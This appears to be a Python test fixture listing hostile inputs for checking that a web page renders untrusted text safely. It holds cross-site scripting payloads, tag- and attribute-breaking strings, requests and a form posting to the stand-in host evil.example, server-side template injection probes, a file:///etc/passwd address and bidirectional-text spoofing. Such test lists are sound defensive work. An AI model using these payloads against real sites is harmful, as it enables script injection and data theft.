"""Takes nothing, gives texts that strangers may write into any field of what a page shows.

What runs sets ``hacked``, opens a dialog or asks for an address: each is a problem to ``tests.pages.browser``.
"""

from __future__ import annotations

from typing import Final

from tests.report.hostile import CONTROL, UNSEEN

MARKUP: Final = (
    "<script>hacked=1</script>",
    "<ScRiPt\n>hacked=1</ScRiPt\t>",
    '<script src="http://evil.example/a.js"></script>',
    "<img src=x onerror=hacked=1>",
    "<img src='http://evil.example/a.png'>",
    "<svg onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=hacked=1></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked=1>#x"></svg>',
    "<math><mtext></mtext><style><img src=x onerror=hacked=1></style></math>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data='data:text/html,<script>parent.hacked=1</script>'></object>",
    "<audio src=http://evil.example/a.mp3>",
    "<body onload=hacked=1>",
    "<details open ontoggle=hacked=1>x</details>",
    "<input autofocus onfocus=hacked=1>",
    "<video><source onerror=hacked=1></video>",
    "<audio src=data:, onerror=hacked=1></audio>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<style>*{background:url(http://evil.example/a.png)}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<link rel=prefetch href=http://evil.example/a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/ id=data><input name=textContent><button autofocus>x</button></form>",
    "<template><img src=x onerror=hacked=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "<a href=javascript:hacked=1 autofocus>x</a>",
)  # fmt: skip
"""Elements that run or fetch."""

BREAKS: Final = (
    "</script><script>hacked=1</script>",
    "</script ><img src=x onerror=hacked=1>",
    "<!--<script>",
    "--><script>hacked=1</script><!--",
    "]]><script>hacked=1</script><![CDATA[",
    "</title><script>hacked=1</script>",
    "</textarea><img src=x onerror=hacked=1>",
    "</style><img src=x onerror=hacked=1>",
    "</text></svg><img src=x onerror=hacked=1>",
    '" autofocus onfocus="hacked=1',
    "' autofocus onfocus='hacked=1",
    "` onerror=`hacked=1",
    '"><img src=x onerror=hacked=1>',
    '";hacked=1;//',
    "';hacked=1;//",
    "\\';hacked=1;//",
    "${hacked=1}",
    "\u2028hacked=1//",
    "\u2029hacked=1//",
    "*/hacked=1/*",
)  # fmt: skip
"""Ends of what a text might stand in: a script, a comment, a title, an attribute, a string."""

ADDRESSES: Final = (
    "javascript:hacked=1",
    "JaVaScRiPt:hacked=1",
    "java\tscript:hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "//evil.example/a.png",
    "http://evil.example/?q='\"",
    "file:///etc/passwd",
    "url(http://evil.example/a.png)",
    "red;background:url(http://evil.example/a.png)",
    "expression(hacked=1)",
    "#<img src=x onerror=hacked=1>",
    "%3Cscript%3Ehacked=1%3C/script%3E",
)  # fmt: skip
"""What a link, a style or a colour might be made of."""

TEMPLATES: Final = (
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment",
    "{{constructor.constructor('hacked=1')()}}",
    "%(name)s %s {0} {name}",
    "[click](javascript:hacked=1) ![x](http://evil.example/a.png)",
    'graph TD; a["<img src=x onerror=hacked=1>"] click a "javascript:hacked=1"',
    "&lt;script&gt;hacked=1&lt;/script&gt; &#60;img src=x onerror=hacked=1&#62;",
)  # fmt: skip
"""What a template, markdown or a decoding too many would make something of."""

NAMES: Final = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "undefined", "null", "NaN", "-0")
"""What an object of JavaScript already has, or what a careless reader takes for a value."""

SIGNS: Final = (
    "W" * 400,
    "\u0645\u062e\u0627\u0637\u0631 <b>\u05e1\u05d9\u05db\u05d5\u05df</b>",
    "\U0001f469\u200d\U0001f680\U0001f1fa\U0001f1f3 \u26a0\ufe0f",
    "Z\u0351\u036b\u0343" * 40,
    "\u202e\u2066gpj.exe\u2069\u202c",
    "a\n\n\nb\r\n\tc",
    *CONTROL[:6],
    *UNSEEN[:6],
)  # fmt: skip
"""What a layout, a font or an eye stumbles over."""

TEXTS: Final = tuple(dict.fromkeys(MARKUP + BREAKS + ADDRESSES + TEMPLATES + NAMES + SIGNS))

IDS: Final = (
    "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "toLocaleString",
    "undefined", "null", "true", "NaN", "Infinity", "length", "name", "data", "content", "window", "document", "x-",
)  # fmt: skip
"""Ids that the model takes, and that an object, a form or a document of a browser has a meaning for."""
